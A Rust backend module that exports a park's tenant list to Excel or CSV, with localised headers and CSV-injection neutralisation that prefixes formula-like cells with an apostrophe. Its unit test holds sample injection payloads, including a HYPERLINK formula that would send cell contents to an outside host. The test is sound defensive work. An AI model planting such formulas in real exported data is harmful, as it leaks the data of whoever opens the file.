//! The tenant list as a spreadsheet: the park manager's current filter exported to Excel
//! (.xlsx) or CSV (UTF-8 with BOM, so Excel opens Chinese text correctly), with headers,
//! statuses, chain segments and qualification types named in the reader's language. In the
//! .xlsx file dates are dates and amounts and counts are numbers, so they sort and sum.

use actix_web::http::header;
use actix_web::{get, web, HttpResponse};
use chrono::{Datelike, NaiveDate, NaiveDateTime};
use diesel::prelude::*;
use rust_i18n::t;
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
use serde::Deserialize;
use utoipa::IntoParams;

use super::tenants::{query_tenants, TenantListCaches, TenantQuery};
use crate::accounts::identity::Identity;
use crate::scope::BaseScope;
use crate::db::schema::{enterprise_qualifications, enterprises, segments, tenancies};
use crate::db::DbConn;
use crate::error::AppError;
use crate::state::AppState;

/// Rows exported at most (a base has far fewer tenants).
pub const MAX_EXPORT_ROWS: i64 = 100_000;

/// The columns, as keys of `backend/locales` (`export.tenants.<key>`).
const COLUMNS: [&str; 11] =
    ["name", "credit_code", "status", "segment", "applied_on", "admitted_on", "legal_representative", "district", "registered_capital", "employees", "qualifications"];

/// The column headers in `locale`.
pub fn headers(locale: &str) -> Vec<String> {
    COLUMNS.iter().map(|c| t!(format!("export.tenants.{c}"), locale = locale).into_owned()).collect()
}

/// One exported tenant: text already in the reader's language, dates and numbers typed.
#[derive(Debug, Clone, PartialEq)]
pub struct ExportRow {
    pub name: String,
    pub credit_code: String,
    pub status: String,
    pub segment: String,
    pub applied_on: NaiveDate,
    pub admitted_on: Option<NaiveDate>,
    pub legal_representative: String,
    pub district: String,
    /// Registered capital in fen.
    pub registered_capital_fen: Option<i64>,
    pub employees: Option<i32>,
    pub qualifications: String,
}

/// The language of an export: the reader's choice on this browser (the language cookie), else
/// the one saved with the account.
pub fn export_locale(req: &actix_web::HttpRequest, identity: &Identity) -> &'static str {
    let chosen = req.cookie("i18n_pref_locale").map(|c| c.value().to_string()).unwrap_or_else(|| identity.locale.clone());
    if chosen == "en" { "en" } else { "zh-CN" }
}

/// The exported rows of every matching tenant, in the list's order.
pub fn rows(conn: &mut DbConn, caches: &TenantListCaches, scope: &BaseScope, q: &TenantQuery, due: &str, locale: &str) -> Result<Vec<ExportRow>, AppError> {
    let (_, list) = query_tenants(conn, caches, false, scope, q, due, MAX_EXPORT_ROWS, 0)?;
    let english = locale == "en";
    let segment_names: Vec<(String, String)> = segments::table
        .select((segments::code, segments::name_zh, segments::name_en))
        .load::<(String, String, String)>(conn)?
        .into_iter()
        .map(|(code, zh, en)| (code, if english { en } else { zh }))
        .collect();
    let mut out = Vec::with_capacity(list.len());
    for chunk in list.chunks(500) {
        let ids: Vec<i64> = chunk.iter().map(|r| r.enterprise_id).collect();
        let tids: Vec<i64> = chunk.iter().map(|r| r.tenancy_id).collect();
        type Details = (i64, Option<String>, Option<String>, Option<i64>, Option<i32>);
        let details: Vec<Details> = enterprises::table
            .filter(enterprises::id.eq_any(&ids))
            .select((enterprises::id, enterprises::legal_representative, enterprises::district, enterprises::registered_capital_fen, enterprises::employees))
            .load(conn)?;
        let admitted: Vec<(i64, Option<NaiveDateTime>)> =
            tenancies::table.filter(tenancies::id.eq_any(&tids)).select((tenancies::id, tenancies::admitted_at)).load(conn)?;
        let quals: Vec<(i64, String, Option<NaiveDate>)> = enterprise_qualifications::table
            .filter(enterprise_qualifications::enterprise_id.eq_any(&ids))
            .select((enterprise_qualifications::enterprise_id, enterprise_qualifications::kind, enterprise_qualifications::valid_until))
            .load(conn)?;
        for r in chunk {
            let d = details.iter().find(|d| d.0 == r.enterprise_id);
            let segment = r
                .segment
                .as_deref()
                .map(|code| segment_names.iter().find(|(c, _)| c == code).map_or_else(|| code.to_string(), |(_, n)| n.clone()))
                .unwrap_or_default();
            let qualifications = quals
                .iter()
                .filter(|q| q.0 == r.enterprise_id)
                .map(|q| {
                    let name = t!(format!("qualification.{}", q.1), locale = locale);
                    match q.2 {
                        Some(until) => t!("export.tenants.valid_until", locale = locale, name = name, date = until).into_owned(),
                        None => name.into_owned(),
                    }
                })
                .collect::<Vec<_>>()
                .join(if english { "; " } else { "；" });
            out.push(ExportRow {
                name: r.name_zh.clone(),
                credit_code: r.credit_code.clone(),
                status: t!(format!("tenancy_status.{}", r.status.as_str()), locale = locale).into_owned(),
                segment,
                applied_on: r.applied_at.date_naive(),
                admitted_on: admitted.iter().find(|a| a.0 == r.tenancy_id).and_then(|a| a.1).map(|t| t.date()),
                legal_representative: d.and_then(|d| d.1.clone()).unwrap_or_default(),
                district: d.and_then(|d| d.2.clone()).unwrap_or_default(),
                registered_capital_fen: d.and_then(|d| d.3),
                employees: d.and_then(|d| d.4),
                qualifications,
            });
        }
    }
    Ok(out)
}

fn excel_date(d: NaiveDate) -> Result<ExcelDateTime, rust_xlsxwriter::XlsxError> {
    ExcelDateTime::from_ymd(d.year() as u16, d.month() as u8, d.day() as u8)
}

/// An .xlsx workbook with one sheet: text as text, dates as dates (yyyy-mm-dd), registered
/// capital as a number of yuan with two decimals, employees as a whole number.
pub fn to_xlsx(rows: &[ExportRow], locale: &str) -> anyhow::Result<Vec<u8>> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name(t!("export.tenants.sheet", locale = locale))?;
    let bold = Format::new().set_bold();
    let date = Format::new().set_num_format("yyyy-mm-dd");
    let yuan = Format::new().set_num_format("#,##0.00");
    let count = Format::new().set_num_format("0");
    for (c, h) in headers(locale).iter().enumerate() {
        sheet.write_string_with_format(0, c as u16, h, &bold)?;
        sheet.set_column_width(c as u16, if c < 2 { 30 } else { 14 })?;
    }
    for (i, row) in rows.iter().enumerate() {
        let r = i as u32 + 1;
        sheet.write_string(r, 0, &row.name)?;
        sheet.write_string(r, 1, &row.credit_code)?;
        sheet.write_string(r, 2, &row.status)?;
        sheet.write_string(r, 3, &row.segment)?;
        sheet.write_datetime_with_format(r, 4, excel_date(row.applied_on)?, &date)?;
        if let Some(d) = row.admitted_on {
            sheet.write_datetime_with_format(r, 5, excel_date(d)?, &date)?;
        }
        sheet.write_string(r, 6, &row.legal_representative)?;
        sheet.write_string(r, 7, &row.district)?;
        if let Some(fen) = row.registered_capital_fen {
            // Exact in an f64 for any capital below 2^53 fen (about 90 trillion yuan).
            sheet.write_number_with_format(r, 8, fen as f64 / 100.0, &yuan)?;
        }
        if let Some(n) = row.employees {
            sheet.write_number_with_format(r, 9, f64::from(n), &count)?;
        }
        sheet.write_string(r, 10, &row.qualifications)?;
    }
    sheet.set_freeze_panes(1, 0)?;
    Ok(book.save_to_buffer()?)
}

/// A cell a spreadsheet program would read as a formula (`=`, `+`, `-`, `@`, tab or carriage
/// return first) gets a leading apostrophe, so it is shown as text and never run (OWASP's
/// advice on CSV injection). The .xlsx export writes strings as strings and needs none of this.
pub fn neutralise_cell(value: &str) -> std::borrow::Cow<'_, str> {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => std::borrow::Cow::Owned(format!("'{value}")),
        _ => std::borrow::Cow::Borrowed(value),
    }
}

/// Yuan with two decimals and no grouping (`1500000.00`), which spreadsheets read as a number.
fn plain_yuan(fen: i64) -> String {
    let sign = if fen < 0 { "-" } else { "" };
    let abs = fen.unsigned_abs();
    format!("{sign}{}.{:02}", abs / 100, abs % 100)
}

/// CSV with a UTF-8 byte-order mark; every cell neutralised (see [`neutralise_cell`]). Dates
/// are written yyyy-mm-dd and registered capital in yuan with two decimals, which spreadsheet
/// programs read as dates and numbers.
pub fn to_csv(rows: &[ExportRow], locale: &str) -> anyhow::Result<Vec<u8>> {
    let mut w = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record(headers(locale))?;
    for row in rows {
        let cells = [
            row.name.clone(),
            row.credit_code.clone(),
            row.status.clone(),
            row.segment.clone(),
            row.applied_on.to_string(),
            row.admitted_on.map(|d| d.to_string()).unwrap_or_default(),
            row.legal_representative.clone(),
            row.district.clone(),
            row.registered_capital_fen.map(plain_yuan).unwrap_or_default(),
            row.employees.map(|e| e.to_string()).unwrap_or_default(),
            row.qualifications.clone(),
        ];
        w.write_record(cells.iter().map(|c| neutralise_cell(c).into_owned()))?;
    }
    w.into_inner().map_err(|e| anyhow::anyhow!("csv: {e}"))
}

#[derive(Debug, Clone, Default, Deserialize, IntoParams)]
pub struct ExportQuery {
    /// `xlsx` (default) or `csv`.
    pub format: Option<String>,
}

/// The tenant list with the given filter as a spreadsheet (park managers of the base, admins).
#[utoipa::path(get, path = "/api/v1/bases/{id}/tenants/export", tag = "registry", params(("id" = i64, Path), ExportQuery, TenantQuery),
    responses((status = 200, description = "The .xlsx or .csv file", content((Vec<u8> = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"), (String = "text/csv"))), (status = 403), (status = 422)))]
#[get("/bases/{id}/tenants/export")]
pub async fn get_export(
    state: web::Data<AppState>,
    req: actix_web::HttpRequest,
    identity: Identity,
    path: web::Path<i64>,
    q: web::Query<ExportQuery>,
    filter: web::Query<TenantQuery>,
) -> Result<HttpResponse, AppError> {
    let scope = BaseScope::of(&identity, path.into_inner())?;
    let base_id = scope.base_id();
    let q = q.into_inner();
    let csv = match q.format.as_deref().unwrap_or("xlsx") {
        "xlsx" => false,
        "csv" => true,
        _ => return Err(AppError::field("format", "not_allowed", "format must be xlsx or csv")),
    };
    let due = super::reports::due_period(&state).to_string();
    let filter = filter.into_inner();
    let st = state.clone();
    let meta = crate::accounts::audit::RequestMeta::from_request(&req);
    let locale = export_locale(&req, &identity);
    let bytes = state
        .db
        .write_bookkeeping(move |conn| {
            let rows = rows(conn, &st.tenant_list, &scope, &filter, &due, locale)?;
            crate::accounts::audit::record(
                conn,
                &meta,
                crate::accounts::audit::Event::new("tenants_exported").actor(identity.user_id).detail(serde_json::json!({
                    "base_id": base_id,
                    "format": if csv { "csv" } else { "xlsx" },
                    "rows": rows.len(),
                    "filter": serde_json::to_value(&filter).unwrap_or_default(),
                })),
            )?;
            Ok(if csv { to_csv(&rows, locale)? } else { to_xlsx(&rows, locale)? })
        })
        .await?;
    let (mime, ext) = if csv { ("text/csv; charset=utf-8", "csv") } else { ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx") };
    let name = format!("tenants-{base_id}-{}.{ext}", state.clock.today().format("%Y%m%d"));
    Ok(HttpResponse::Ok()
        .insert_header((header::CONTENT_TYPE, mime))
        .insert_header((header::CONTENT_DISPOSITION, format!("attachment; filename=\"{name}\"")))
        .body(bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised() {
        for bad in ["=HYPERLINK(\"http://example.com/?\"&B2,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(neutralise_cell(bad), format!("'{bad}"));
        }
        assert_eq!(neutralise_cell("上海科技"), "上海科技");
        assert_eq!(neutralise_cell(""), "");
        assert_eq!(neutralise_cell("a=b"), "a=b");
    }
}
